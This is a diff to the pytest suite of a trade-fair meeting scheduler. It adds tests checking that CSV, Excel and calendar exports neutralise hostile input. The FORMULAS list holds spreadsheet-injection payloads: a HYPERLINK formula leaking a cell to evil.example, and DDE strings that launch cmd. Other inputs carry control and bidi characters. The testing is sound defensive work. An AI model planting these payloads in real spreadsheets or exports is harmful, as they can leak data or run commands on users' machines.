@@ -20,8 +20,6 @@ from service.events import (
     InvalidRowsError,
     SlotPlan,
     TransitionError,
-    ics_escape,
-    ics_fold,
 )
 from service.settings import Settings
 from tests.conftest import FakeEncoder, cli_invoker, record
@@ -45,7 +43,7 @@ PROFILES = [
            offers="distributor in Europe for ceramics", needs="glazed pottery small series"),
 ]
 MEMBERS = ["tn-1", "tn-2", "ma-1", "lb-1", "fr-1", "it-1", "es-1"]  # de-1 is in the catalogue, not the event
-DAY = date(2026, 12, 1)
+DAY = date(2031, 12, 1)  # a future fair: past days are refused without --allow-past
 
 
 @pytest.fixture
@@ -86,11 +84,11 @@ def test_slots_are_wall_clock_times_in_the_event_timezone(svc: EventService) -> 
     # 09:00-11:00 with 30' + 10' break: 09:00, 09:40, 10:20; 14:00-15:00: 14:00 (14:40 would end 15:10)
     assert len(data.slots) == 8
     first, afternoon = data.slots[0], data.slots[3]
-    assert first.start == datetime(2026, 12, 1, 8, 0, tzinfo=UTC)  # Tunis is UTC+1
+    assert first.start == datetime(2031, 12, 1, 8, 0, tzinfo=UTC)  # Tunis is UTC+1
     assert first.end - first.start == timedelta(minutes=30) and first.session == "morning"
-    assert data.slots[1].start == datetime(2026, 12, 1, 8, 40, tzinfo=UTC)
-    assert afternoon.start == datetime(2026, 12, 1, 13, 0, tzinfo=UTC) and afternoon.session == "afternoon"
-    assert data.slots[4].start == datetime(2026, 12, 2, 8, 0, tzinfo=UTC)
+    assert data.slots[1].start == datetime(2031, 12, 1, 8, 40, tzinfo=UTC)
+    assert afternoon.start == datetime(2031, 12, 1, 13, 0, tzinfo=UTC) and afternoon.session == "afternoon"
+    assert data.slots[4].start == datetime(2031, 12, 2, 8, 0, tzinfo=UTC)
     assert [s.index for s in data.slots] == list(range(8))
     assert data.event.timezone == "Africa/Tunis" and [t.number for t in data.tables] == [1, 2, 3]
 
@@ -349,13 +347,20 @@ def scheduled_event(svc: EventService) -> int:
     return eid
 
 
-def test_ics_escaping_and_folding() -> None:
-    assert ics_escape("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
-    line = "SUMMARY:" + "Meeting with تعاونية الفخار الأزرق بآسفي, Safi " * 3
-    folded = ics_fold(line)
-    parts = folded.split("\r\n")
-    assert all(len(p.encode()) <= 75 for p in parts) and all(p.startswith(" ") for p in parts[1:])
-    assert "".join(p[1:] if i else p for i, p in enumerate(parts)) == line
+def test_ics_folds_long_arabic_lines_whole_characters_and_round_trips(svc: EventService,
+                                                                       catalogue: Catalogue) -> None:
+    import icalendar
+
+    long_name = "تعاونية الفخار الأزرق بآسفي, Safi; « poterie » " * 3
+    stored_as_is(catalogue, **{"fr-1": long_name.strip()})
+    eid = scheduled_event(svc)
+    raw = svc.ics(eid, "tn-1")
+    lines = raw.split(b"\r\n")
+    assert all(len(x) <= 75 for x in lines) and all(isinstance(x.decode("utf-8"), str) for x in lines)  # whole chars
+    assert any(x.startswith(b" ") for x in lines)  # folded
+    summaries = {str(e["SUMMARY"]) for e in icalendar.Calendar.from_ical(raw).walk("VEVENT")}
+    assert f"Meeting with {long_name.strip()}" in summaries
+    assert b"Safi\\; " in raw.replace(b"\r\n ", b"")  # escaped by the library
 
 
 def test_export_agendas_ics_grid_and_summary(svc: EventService, tmp_path: Path) -> None:
@@ -389,7 +394,7 @@ def test_export_agendas_ics_grid_and_summary(svc: EventService, tmp_path: Path) 
     # the organiser's grid, as CSV and Excel, and the summary
     grid = pd.read_csv(tmp_path / "out" / "grid.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
     assert list(grid.columns) == ["slot", "start", "end", "session", "Table 1", "Table 2"]
-    assert grid["start"][0] == "2026-12-01 09:00" and grid["end"][0] == "09:30"
+    assert grid["start"][0] == "2031-12-01 09:00" and grid["end"][0] == "09:30"
     cells = [c for t in ("Table 1", "Table 2") for c in grid[t] if c]
     assert sorted(cells) == sorted(["Org tn-1 × Org fr-1", "Org tn-1 × Org it-1", "Org ma-1 × Org it-1"])
     xl = pd.read_excel(tmp_path / "out" / "grid.xlsx", sheet_name=None, dtype=str, keep_default_na=False)
@@ -405,7 +410,7 @@ def test_agenda_reason_is_from_the_participants_side(svc: EventService) -> None:
     eid = scheduled_event(svc)
     mine = svc.agenda(eid, "fr-1")
     assert [x.partner_id for x in mine] == ["tn-1"] and mine[0].reason and mine[0].priority == "must"
-    assert "BEGIN:VEVENT" in svc.ics(eid, "fr-1")
+    assert b"BEGIN:VEVENT" in svc.ics(eid, "fr-1")
 
 
 # --- CLI ------------------------------------------------------------------------------------------
@@ -421,7 +426,7 @@ def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], cat
 def test_cli_end_to_end(run, tmp_path: Path) -> None:
     people = tmp_path / "people.csv"
     pd.DataFrame(rows(extra={"tn-1": {"forbidden_slots": "6"}})).to_csv(people, index=False)
-    code, out, err = run("create", "CAT 2026", "--participants", str(people), "--days", "2026-12-01",
+    code, out, err = run("create", "CAT 2026", "--participants", str(people), "--days", "2031-12-01",
                          "--morning", "09:00-11:00", "--afternoon", "14:00-15:00", "--slot-minutes", "30",
                          "--tables", "3", "--venue", "Palais des Congrès", "--timezone", "Africa/Tunis")
     assert code == 0, err
@@ -456,7 +461,7 @@ def test_cli_reports_bad_participant_rows(run, tmp_path: Path) -> None:
     people = tmp_path / "people.csv"
     pd.DataFrame([*rows(["tn-1"]), {"profile_id": "nobody", "forbidden_slots": "0", "max_meetings": "",
                                     "stand": ""}]).to_csv(people, index=False)
-    code, _, err = run("create", "X", "--participants", str(people), "--days", "2026-12-01")
+    code, _, err = run("create", "X", "--participants", str(people), "--days", "2031-12-01")
     assert code == 1 and "row 2 id 'nobody': field 'profile_id'" in err and "slot 0 does not exist" in err
     assert "nothing was written" in err
     code, _, err = run("create", "X", "--participants", str(people), "--days", "01/12/2026")
@@ -482,7 +487,7 @@ def api(tmp_path: Path, catalogue: Catalogue):
 
 
 EVENT_BODY = {"name": "CAT 2026 B2B", "venue": "Palais des Congrès, Tunis", "timezone": "Africa/Tunis",
-              "days": ["2026-12-01"], "morning_start": "09:00", "morning_end": "11:00", "afternoon_start": None,
+              "days": ["2031-12-01"], "morning_start": "09:00", "morning_end": "11:00", "afternoon_start": None,
               "afternoon_end": None, "slot_minutes": 30, "tables": 2,
               "participants": [{"profile_id": p} for p in MEMBERS]}
 
@@ -498,7 +503,7 @@ def test_api_event_flow(api, tmp_path: Path) -> None:
     assert r.status_code == 201, r.text
     event = r.json()
     eid = event["id"]
-    assert event["slots"][0]["start"] == "2026-12-01T08:00:00+00:00" and len(event["slots"]) == 4
+    assert event["slots"][0]["start"] == "2031-12-01T08:00:00+00:00" and len(event["slots"]) == 4
     bad = client.post("/events", json=EVENT_BODY | {"participants": [{"profile_id": "zz"}]}, headers=h["organiser"])
     assert bad.status_code == 422 and "unknown profile id" in bad.json()["detail"][0]["msg"]
     r = client.post(f"/events/{eid}/requests", json={"from_id": "tn-1", "to_id": "fr-1", "priority": "must"},
@@ -680,3 +685,179 @@ def test_solver_reasons_name_requests_and_profiles() -> None:
         "fixed: request 11 (participants 'tn-1' and 'it-1') has no allowed slot (session either, fixed slot 4)")
     assert _humanise("lower priority than meetings [1, 2] of the same participants", ["a"], [7, 9]) == (
         "lower priority than requests [7, 9] of the same participants")
+
+
+# --- hostile and careless input (issue 13) -----------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed =1+1", "\r=1+1"]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def stored_as_is(catalogue: Catalogue, **names: str) -> None:
+    """Rename profiles straight in the database, as an older version (without text checks) may have stored them."""
+    from dataclasses import replace
+
+    from storage import repository as repo
+
+    changed = [replace(p, name=names[p.id]) for p in repo.load_profiles(catalogue.engine) if p.id in names]
+    repo.write_profiles(catalogue.engine, changed, model_id=catalogue.model_id, vectors={})
+
+
+def all_cells(folder: Path) -> list[tuple[str, object]]:
+    """(file, value) of every cell of every CSV and Excel file under ``folder``; Excel formulas as ('formula', ...)."""
+    import csv
+
+    import openpyxl
+
+    cells: list[tuple[str, object]] = []
+    for path in sorted(folder.rglob("*.csv")):
+        with path.open(encoding="utf-8-sig", newline="") as f:
+            cells += [(path.name, v) for row in csv.reader(f) for v in row]
+    for path in sorted(folder.rglob("*.xlsx")):
+        book = openpyxl.load_workbook(path)
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for c in row:
+                    value = ("formula", c.value) if c.data_type == "f" else c.value
+                    cells.append((f"{path.name}:{sheet.title}", value))
+    return cells
+
+
+def test_exports_neutralise_formulas_and_stored_control_characters(svc: EventService, catalogue: Catalogue,
+                                                                    tmp_path: Path) -> None:
+    """Problems 1 and 3: no cell that ccimatch writes starts a formula; stored control characters never break
+    an export, and the .ics files parse and carry none."""
+    import icalendar
+
+    stored_as_is(catalogue, **{"tn-1": FORMULAS[0], "fr-1": FORMULAS[1], "it-1": "Cuivres\x07 & Maisons\x00",
+                               "ma-1": "\u202eseméS\x1b[31m", "lb-1": FORMULAS[2], "es-1": FORMULAS[3]})
+    eid = make_event(svc, tables=2)
+    for a, b, message in [("tn-1", "fr-1", FORMULAS[4]), ("tn-1", "it-1", "@here"), ("ma-1", "lb-1", FORMULAS[5]),
+                          ("es-1", "it-1", "-1")]:
+        r = svc.request(eid, a, b, message=message.strip() if message.startswith("\t") else message.lstrip("\r"))
+        svc.accept(r.id, as_organiser=True)
+    assert svc.schedule(eid, time_limit=5).held == 4
+    files = svc.export(eid, tmp_path / "out", now=datetime(2026, 11, 30, 12, 0, tzinfo=UTC))
+    cells = all_cells(tmp_path / "out")
+    assert len(cells) > 100 and {name for name, _ in cells} >= {"grid.csv", "summary.csv", "tn-1.csv",
+                                                                "grid.xlsx:grid", "grid.xlsx:participants"}
+    formulas = [(f, v) for f, v in cells if isinstance(v, tuple)]
+    assert formulas == []
+    leading = [(f, v) for f, v in cells if isinstance(v, str) and v.startswith(DANGEROUS)]
+    assert leading == []
+    controls = [(f, v) for f, v in cells if isinstance(v, str) and re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", v)]
+    assert controls == []
+    names = {v for _, v in cells if isinstance(v, str)}
+    assert "'" + FORMULAS[0] in names and "'" + FORMULAS[1] in names  # kept readable, neutralised
+    assert any("Cuivres\ufffd & Maisons\ufffd" in v for v in names)
+    for ics in (f for f in files if f.suffix == ".ics"):
+        raw = ics.read_bytes()
+        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", raw), ics.name
+        assert "\u202e".encode() not in raw
+        cal = icalendar.Calendar.from_ical(raw)
+        assert all(str(ev["SUMMARY"]).startswith("Meeting with") for ev in cal.walk("VEVENT"))
+    tn1 = icalendar.Calendar.from_ical((tmp_path / "out" / "agendas" / "tn-1.ics").read_bytes())
+    assert {str(ev["SUMMARY"]) for ev in tn1.walk("VEVENT")} == {f"Meeting with {FORMULAS[1]}",
+                                                                 "Meeting with Cuivres\ufffd & Maisons\ufffd"}
+
+
+def test_export_is_all_or_nothing(svc: EventService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Problem 3: an export that fails half-way leaves no folder (or the previous export untouched)."""
+    import service.events as module
+
+    eid = scheduled_event(svc)
+    tmp_path = tmp_path / "exports"
+    tmp_path.mkdir()
+    out = tmp_path / "out"
+
+    def broken(*_: object, **__: object) -> None:
+        raise OSError("disk full")
+
+    monkeypatch.setattr(module, "write_xlsx", broken)
+    with pytest.raises(OSError, match="disk full"):
+        svc.export(eid, out)
+    assert not out.exists() and list(tmp_path.iterdir()) == []
+    monkeypatch.undo()
+    first = svc.export(eid, out)
+    assert all(f.exists() for f in first)
+    monkeypatch.setattr(module, "write_xlsx", broken)
+    with pytest.raises(OSError):
+        svc.export(eid, out)  # the previous export stays whole
+    assert sorted(p.name for p in out.iterdir()) == ["agendas", "grid.csv", "grid.xlsx", "summary.csv",
+                                                     "table_use.csv"]
+    assert sorted(tmp_path.iterdir()) == [out]
+    monkeypatch.undo()
+    assert svc.export(eid, out) == first  # a new export replaces an old one
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine" / "thesis.docx").write_text("precious")
+    with pytest.raises(ValueError, match="not a ccimatch export"):
+        svc.export(eid, tmp_path / "mine")
+    assert (tmp_path / "mine" / "thesis.docx").read_text() == "precious"
+
+
+def test_event_texts_refuse_control_characters(svc: EventService) -> None:
+    """Problem 3: event names, venues and request messages name the field and the code point."""
+    with pytest.raises(ValueError, match=r"field 'name'.*U\+0007"):
+        svc.create_event(name="CAT\x07", venue="", timezone="Africa/Tunis", plan=plan(), tables=2, participants=rows())
+    with pytest.raises(ValueError, match=r"field 'venue'.*U\+202E"):
+        svc.create_event(name="CAT", venue="Kram\u202e", timezone="Africa/Tunis", plan=plan(), tables=2,
+                         participants=rows())
+    eid = make_event(svc)
+    with pytest.raises(ValueError, match=r"field 'message'.*U\+0000"):
+        svc.request(eid, "tn-1", "fr-1", message="bonjour\x00")
+    sent = svc.request(eid, "tn-1", "fr-1", message="Bonjour,\r\nà demain\tà 9 h")
+    assert sent.message == "Bonjour,\nà demain\tà 9 h"
+    with pytest.raises(InvalidRowsError) as exc:
+        svc.import_requests(eid, [{"from_id": "ma-1", "to_id": "it-1", "message": "\x1b[2J"}])
+    assert exc.value.errors[0].field == "message" and "U+001B" in exc.value.errors[0].reason
+
+
+def test_past_events_are_refused_unless_allowed(svc: EventService, run, tmp_path: Path) -> None:
+    """Problem 6: days before today (in the event's timezone) need allow_past."""
+    past = plan(days=(date(1900, 1, 1),))
+    with pytest.raises(ValueError, match=r"field 'days' = '1900-01-01': in the past .*allow-past"):
+        svc.create_event(name="Old fair", venue="", timezone="Africa/Tunis", plan=past, tables=2, participants=rows())
+    eid = svc.create_event(name="Old fair", venue="", timezone="Africa/Tunis", plan=past, tables=2,
+                           participants=rows(), allow_past=True)
+    assert svc.event(eid).slots[0].start.year == 1900
+    today = datetime.now(UTC).date()
+    assert make_event(svc, plan=plan(days=(today + timedelta(days=1),)))
+    people = tmp_path / "people.csv"
+    pd.DataFrame(rows()).to_csv(people, index=False)
+    code, _, err = run("create", "Old", "--participants", str(people), "--days", "2001-05-01")
+    assert code == 2 and "in the past" in err and "--allow-past" in err
+    code, out, _ = run("create", "Old", "--participants", str(people), "--days", "2001-05-01", "--allow-past")
+    assert code == 0 and out.strip().isdigit()
+
+
+def test_api_refuses_past_events_and_participant_keys_cannot_probe_requests(api) -> None:
+    """Problems 5 and 6 over HTTP: allow_past=true imports a past event; a participant key gets the same 404
+    for another participant's request as for a request that does not exist."""
+    from storage.keys import create_key
+
+    client, h = api
+    old = EVENT_BODY | {"days": ["1900-01-01"]}
+    r = client.post("/events", json=old, headers=h["organiser"])
+    assert r.status_code == 422 and "in the past" in r.json()["detail"][0]["msg"]
+    assert client.post("/events?allow_past=true", json=old, headers=h["organiser"]).status_code == 201
+    eid = client.post("/events", json=EVENT_BODY, headers=h["organiser"]).json()["id"]
+    engine = client.app.state.catalogue.engine
+    tn1 = {"X-API-Key": create_key(engine, "participant", event_id=eid, profile_id="tn-1")}
+    theirs = client.post(f"/events/{eid}/requests", json={"from_id": "ma-1", "to_id": "it-1"},
+                         headers=h["organiser"]).json()["id"]
+    for action in ("accept", "decline", "cancel"):
+        other = client.post(f"/events/{eid}/requests/{theirs}/{action}", json={}, headers=tn1)
+        missing = client.post(f"/events/{eid}/requests/999999/{action}", json={}, headers=tn1)
+        assert other.status_code == missing.status_code == 404
+        assert other.json()["detail"].replace(str(theirs), "N") == missing.json()["detail"].replace("999999", "N")
+        assert "it-1" not in other.text and "ma-1" not in other.text
+
+
+def test_error_wording(api, svc: EventService) -> None:
+    """Problem 9: balanced quotes, one error per problem."""
+    client, h = api
+    eid = client.post("/events", json=EVENT_BODY, headers=h["organiser"]).json()["id"]
+    r = client.get(f"/events/{eid}/participants/nope/agenda", headers=h["organiser"])
+    assert r.status_code == 404 and r.json()["detail"] == f"'nope' is not a participant of event {eid}"
+    r = client.post("/events/0/schedule", headers=h["organiser"])
+    assert r.status_code == 422 and len(r.json()["detail"]) == 1
